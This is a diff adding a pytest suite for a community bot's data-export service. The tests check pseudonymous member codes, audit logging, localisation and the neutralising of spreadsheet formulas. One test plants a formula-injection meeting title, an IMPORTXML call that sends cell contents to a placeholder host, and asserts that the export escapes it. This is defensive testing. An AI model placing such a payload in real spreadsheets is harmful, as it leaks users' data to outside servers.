@@ -1,0 +1,377 @@
+"""Exports open cleanly in a spreadsheet, carry no Telegram id unless asked, and are audited."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import UTC, date, datetime
+from typing import Any
+
+import pytest
+from openpyxl import load_workbook
+from pydantic import SecretStr
+
+from bot.db.models import InputStatus, QuestionKind, RsvpStatus
+from bot.runtime import Runtime
+from bot.services import audit, exports
+from bot.services.exports import ExportSpec
+from bot.services.exports.cells import safe_text
+from tests.export_support import (
+    HOSTILE,
+    MIXED_ANSWER,
+    World,
+    add_answer,
+    add_checkin_answer,
+    add_input_run,
+    add_many_answers,
+    add_rsvp,
+    make_world,
+)
+
+AT = datetime(2026, 12, 1, 9, 30, tzinfo=UTC)  # 10:30 in Amsterdam
+
+
+async def run_export(
+    runtime: Runtime,
+    world: World,
+    fmt: str,
+    *,
+    language: str = "en",
+    actor: int | None = None,
+    secret: SecretStr | None = None,
+    progress: Any = None,
+    out: io.BytesIO | None = None,
+    **spec: Any,
+) -> tuple[bytes, exports.ExportResult]:
+    out = out if out is not None else io.BytesIO()
+    table = spec.pop("table", "answers")
+    codes = await exports.member_codes(runtime.sessions, secret, now=runtime.clock())
+    result = await exports.export(
+        runtime.sessions,
+        ExportSpec(community_id=world.community_id, language=language, **spec),
+        fmt,
+        out,
+        translator=runtime.catalogs.translator(language),
+        codes=codes,
+        now=runtime.clock(),
+        actor_user_id=actor,
+        channel="test",
+        table=table,
+        progress=progress,
+    )
+    return out.getvalue(), result
+
+
+def read_csv(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+async def story_world(runtime: Runtime) -> World:
+    world = await make_world(runtime)
+    await add_answer(runtime, world, "amira", MIXED_ANSWER, at=AT)
+    await add_answer(
+        runtime, world, "dawit", None, at=AT, voice=("voice-ti-1", 42), kind=QuestionKind.VOICE
+    )
+    await add_answer(runtime, world, "sanne", "Over werk zoeken", at=AT)
+    await add_answer(runtime, world, "sanne", "Mijn eigen verhaal", at=AT, meeting=False)
+    await add_rsvp(runtime, world, "amira", RsvpStatus.GOING)
+    await add_rsvp(runtime, world, "sanne", RsvpStatus.MAYBE)
+    await add_input_run(runtime, world, "amira", InputStatus.COMPLETED)
+    return world
+
+
+async def test_csv_has_a_bom_headers_in_the_export_language_and_one_row_per_answer(
+    runtime: Runtime,
+) -> None:
+    world = await story_world(runtime)
+    data, result = await run_export(runtime, world, "csv")
+
+    assert data.startswith(b"\xef\xbb\xbf")
+    rows = read_csv(data)
+    assert result.answers == len(rows) == 4
+    assert list(rows[0]) == [
+        "Member code",
+        "Member language",
+        "Community",
+        "Meeting id",
+        "Meeting",
+        "Meeting starts (local time)",
+        "Given as",
+        "Question",
+        "Question as asked",
+        "Answer language",
+        "Answer",
+        "Answer type",
+        "Voice note reference",
+        "Voice note seconds",
+        "RSVP",
+        "Answered at (local time)",
+        "Answered at (UTC)",
+        "Input status",
+    ]
+    amira = rows[0]
+    assert amira["Answer"] == MIXED_ANSWER
+    assert amira["Question"] == "What do you want to talk about?"
+    assert amira["Question as asked"] == "عن ماذا تريد أن تتحدث؟"
+    assert amira["Meeting"] == "Taalcafé"  # no English title: the community's default
+    assert amira["Meeting starts (local time)"] == "2026-12-05 14:00"
+    assert amira["Answered at (local time)"] == "2026-12-01 10:30"
+    assert amira["Answered at (UTC)"] == "2026-12-01T09:30:00Z"
+    assert (amira["RSVP"], amira["Input status"], amira["Member language"]) == (
+        "Coming",
+        "Completed",
+        "ar",
+    )
+    dawit = rows[1]
+    assert (dawit["Answer type"], dawit["Voice note reference"], dawit["Voice note seconds"]) == (
+        "Voice note",
+        "voice-ti-1",
+        "42",
+    )
+    assert dawit["Input status"] == ""  # Dawit never started the questions as a run
+    story = rows[3]
+    assert (story["Given as"], story["Meeting"], story["Answer"]) == (
+        "Story",
+        "",
+        "Mijn eigen verhaal",
+    )
+
+
+async def test_member_codes_are_stable_pseudonyms_and_no_telegram_id_is_anywhere(
+    runtime: Runtime,
+) -> None:
+    world = await story_world(runtime)
+    first, _ = await run_export(runtime, world, "csv")
+    again, _ = await run_export(runtime, world, "csv")
+    xlsx, _ = await run_export(runtime, world, "xlsx")
+    jsonl, _ = await run_export(runtime, world, "jsonl")
+
+    codes = [row["Member code"] for row in read_csv(first)]
+    assert codes == [row["Member code"] for row in read_csv(again)]
+    assert codes[2] == codes[3]  # Sanne's answer and Sanne's story
+    assert len(set(codes)) == 3
+    assert all(code.startswith("M-") and len(code) == 14 for code in codes)
+    workbook = load_workbook(io.BytesIO(xlsx))
+    cells = [
+        str(v) for sheet in workbook for row in sheet.iter_rows(values_only=True) for v in row
+    ]
+    for telegram_id in world.telegram_ids.values():
+        assert str(telegram_id).encode() not in first
+        assert str(telegram_id).encode() not in jsonl
+        assert all(str(telegram_id) not in cell for cell in cells)
+        assert str(telegram_id).encode() not in xlsx  # not even in the zipped XML
+
+
+async def test_a_configured_secret_gives_other_codes_than_the_generated_one(
+    runtime: Runtime,
+) -> None:
+    world = await story_world(runtime)
+    generated, _ = await run_export(runtime, world, "csv")
+    configured, _ = await run_export(
+        runtime, world, "csv", secret=SecretStr("a-long-random-export-secret-for-tests")
+    )
+    assert read_csv(generated)[0]["Member code"] != read_csv(configured)[0]["Member code"]
+
+
+async def test_xlsx_has_a_summary_a_sheet_per_meeting_stories_and_rsvps(runtime: Runtime) -> None:
+    world = await story_world(runtime)
+    data, result = await run_export(runtime, world, "xlsx")
+
+    workbook = load_workbook(io.BytesIO(data))
+    assert workbook.sheetnames == [
+        "Summary",
+        "2026-12-05 Taalcafé",
+        "Stories and check-ins",
+        "RSVPs",
+    ]
+    assert (result.answers, result.rsvps) == (4, 2)
+    meeting = workbook["2026-12-05 Taalcafé"]
+    assert meeting.freeze_panes == "A2"
+    assert meeting.column_dimensions["K"].width == 60  # the answer column is wide
+    header = [cell.value for cell in meeting[1]]
+    assert (header[0], header[10]) == ("Member code", "Answer")
+    assert meeting[1][0].font.bold
+    answer = meeting["K2"]
+    assert answer.value == MIXED_ANSWER
+    assert answer.alignment.readingOrder == 2  # right to left
+    assert meeting["P2"].value == datetime(2026, 12, 1, 10, 30)  # a real date cell, local
+    assert meeting.max_row == 4
+    rsvps = list(workbook["RSVPs"].iter_rows(min_row=2, values_only=True))
+    assert [(row[0], row[5]) for row in rsvps] == [
+        (world.meeting_id, "Coming"),
+        (world.meeting_id, "Maybe"),
+    ]
+    summary = list(workbook["Summary"].iter_rows(values_only=True))
+    assert ("Answers", 4) in [row[:2] for row in summary]
+    assert (world.meeting_id, "Taalcafé", datetime(2026, 12, 5, 14, 0), 3, 3, 1, 1, 0) in summary
+
+
+async def test_an_arabic_export_runs_right_to_left_with_arabic_titles(runtime: Runtime) -> None:
+    world = await story_world(runtime)
+    data, _ = await run_export(runtime, world, "xlsx", language="ar")
+    workbook = load_workbook(io.BytesIO(data))
+    meeting = workbook.worksheets[1]
+    assert meeting.title == "2026-12-05 مقهى اللغة"
+    assert meeting.sheet_view.rightToLeft
+    assert meeting["H2"].value == "عن ماذا تريد أن تتحدث؟"
+    assert (meeting["L2"].value, meeting["O2"].value) == ("نص", "سيحضر")  # text; coming
+
+
+@pytest.mark.parametrize(("hostile", "shown"), HOSTILE)
+async def test_hostile_cells_are_neutralised_in_csv_and_xlsx(
+    runtime: Runtime, hostile: str, shown: str
+) -> None:
+    world = await make_world(runtime)
+    await add_answer(runtime, world, "sanne", hostile, at=AT)
+
+    csv_data, _ = await run_export(runtime, world, "csv")
+    assert read_csv(csv_data)[0]["Answer"] == shown
+    xlsx_data, _ = await run_export(runtime, world, "xlsx")
+    cell = load_workbook(io.BytesIO(xlsx_data)).worksheets[1]["K2"]
+    assert cell.data_type == "s"  # a string, never a formula
+    # XML reads a bare carriage return back as a line feed; the leading ' is what matters.
+    assert cell.value == shown.replace("\r", "\n")
+    jsonl_data, _ = await run_export(runtime, world, "jsonl")
+    assert json.loads(jsonl_data.splitlines()[0])["answer"] == hostile  # JSON keeps it as given
+
+
+def test_safe_text_leaves_ordinary_text_and_numbers_in_words_alone() -> None:
+    for text in ["Taalcafé", MIXED_ANSWER, "3 kinderen", "e-mail", "a=b", "", "'quoted"]:
+        assert safe_text(text) == text
+
+
+async def test_a_check_in_answer_carries_its_own_input_status(runtime: Runtime) -> None:
+    world = await story_world(runtime)
+    # Sanne started the questions before the meeting too, and left them half done.
+    await add_input_run(runtime, world, "sanne", InputStatus.PARTIAL)
+    later = datetime(2026, 12, 6, 10, 0, tzinfo=UTC)
+    await add_checkin_answer(
+        runtime, world, "sanne", "Het was fijn", at=later, status=InputStatus.EXPIRED
+    )
+
+    data, _ = await run_export(runtime, world, "csv")
+    by_answer = {row["Answer"]: row for row in read_csv(data)}
+    assert by_answer["Over werk zoeken"]["Input status"] == "Partly answered"
+    checkin = by_answer["Het was fijn"]
+    assert (checkin["Given as"], checkin["Input status"]) == ("Check-in", "Expired")
+    assert checkin["Meeting"] == "Taalcafé"
+
+
+async def test_filters_meeting_local_days_and_answer_language(runtime: Runtime) -> None:
+    world = await story_world(runtime)
+    # 23:30 UTC on 1 December is already 2 December in Amsterdam.
+    await add_answer(
+        runtime, world, "amira", "متأخر", at=datetime(2026, 12, 1, 23, 30, tzinfo=UTC)
+    )
+
+    async def answers(**spec: Any) -> list[str]:
+        data, _ = await run_export(runtime, world, "csv", **spec)
+        return [row["Answer"] for row in read_csv(data)]
+
+    assert len(await answers()) == 5
+    assert "Mijn eigen verhaal" not in await answers(meeting_id=world.meeting_id)
+    assert await answers(since=date(2026, 12, 2)) == ["متأخر"]
+    assert "متأخر" not in await answers(until=date(2026, 12, 1))
+    assert await answers(answer_language="ar") == [MIXED_ANSWER, "متأخر"]
+    assert await answers(meeting_id=world.later_meeting_id) == []
+
+
+async def test_csv_rsvp_list(runtime: Runtime) -> None:
+    world = await story_world(runtime)
+    data, result = await run_export(runtime, world, "csv", table="rsvps")
+    rows = read_csv(data)
+    assert [(row["Meeting"], row["RSVP"]) for row in rows] == [
+        ("Taalcafé", "Coming"),
+        ("Taalcafé", "Maybe"),
+    ]
+    assert (result.answers, result.rsvps) == (0, 2)
+
+
+async def test_jsonl_has_a_line_per_answer_and_per_rsvp(runtime: Runtime) -> None:
+    world = await story_world(runtime)
+    data, _ = await run_export(runtime, world, "jsonl")
+    lines = [json.loads(line) for line in data.decode().splitlines()]
+    assert [line["record"] for line in lines] == ["answer"] * 4 + ["rsvp"] * 2
+    assert lines[0]["answer"] == MIXED_ANSWER
+    assert lines[0]["answered_at_utc"] == "2026-12-01T09:30:00+00:00"
+    assert lines[0]["answered_at_local"] == "2026-12-01T10:30:00+01:00"
+    assert "telegram_user_id" not in lines[0]
+
+
+async def test_every_export_is_audited_with_its_rows_and_identifiable_ones_are_marked(
+    runtime: Runtime,
+) -> None:
+    world = await story_world(runtime)
+    await run_export(runtime, world, "xlsx", actor=910_880_001)
+    data, _ = await run_export(runtime, world, "csv", identifiable=True)
+
+    rows = read_csv(data)
+    assert rows[0]["Telegram user id"] == str(world.telegram_ids["amira"])
+    async with runtime.sessions() as session:
+        identifiable = await audit.events(session, action="export.identifiable")
+        plain = await audit.events(session, action="export")
+    assert (len(identifiable), len(plain)) == (1, 1)
+    assert (identifiable[0].row_count, identifiable[0].actor_user_id) == (4, None)
+    assert identifiable[0].details["identifiable"] is True
+    assert plain[0].row_count == 6  # 4 answers and 2 RSVPs
+    assert plain[0].actor_user_id == 910_880_001
+    assert plain[0].details["format"] == "xlsx"
+    assert plain[0].community_id == world.community_id
+
+
+async def test_rows_are_written_as_they_stream_not_collected_first(runtime: Runtime) -> None:
+    world = await make_world(runtime)
+    await add_many_answers(runtime, world, 1_600, at=AT)
+    out = io.BytesIO()
+    written_at_progress: list[tuple[int, int]] = []
+
+    def progress(done: int) -> None:
+        written_at_progress.append((done, out.getbuffer().nbytes))
+
+    _, result = await run_export(runtime, world, "jsonl", progress=progress, out=out)
+
+    assert result.answers == 1_600
+    # At the first report, 500 rows were written and the other 1,100 not yet read.
+    first_done, first_bytes = written_at_progress[0]
+    assert first_done == 500
+    assert 0 < first_bytes < len(out.getvalue()) / 2
+
+
+async def test_the_generated_key_is_made_once_and_kept_in_the_database(
+    runtime: Runtime,
+) -> None:
+    from sqlalchemy import select
+
+    from bot.db.models import InstallationSecret
+
+    first = await exports.member_codes(runtime.sessions, None, now=runtime.clock())
+    again = await exports.member_codes(runtime.sessions, None, now=runtime.clock())
+    assert first.code(1) == again.code(1)
+    async with runtime.sessions() as session:
+        keys = (await session.scalars(select(InstallationSecret))).all()
+    assert [(key.name, len(key.value) >= 60) for key in keys] == [("export_member_codes", True)]
+
+
+async def test_an_organisers_hostile_meeting_title_is_neutralised_too(runtime: Runtime) -> None:
+    from sqlalchemy import update
+
+    from bot.db.models import MeetingText
+
+    world = await make_world(runtime)
+    await add_answer(runtime, world, "sanne", "gewoon", at=AT)
+    async with runtime.sessions() as session:
+        await session.execute(
+            update(MeetingText)
+            .where(MeetingText.meeting_id == world.meeting_id, MeetingText.locale == "nl")
+            .values(title='=IMPORTXML(CONCAT("http://x.invalid/?",A2),"//a")')
+        )
+        await session.commit()
+
+    csv_data, _ = await run_export(runtime, world, "csv", language="nl")
+    assert read_csv(csv_data)[0]["Bijeenkomst"].startswith("'=IMPORTXML")
+    book = load_workbook(io.BytesIO((await run_export(runtime, world, "xlsx", language="nl"))[0]))
+    sheet = book.worksheets[1]
+    assert sheet.title == '2026-12-05 =IMPORTXML(CONCAT("h'  # 31 characters, only a name
+    assert sheet["E2"].data_type == "s"
+    assert sheet["E2"].value.startswith("'=IMPORTXML")
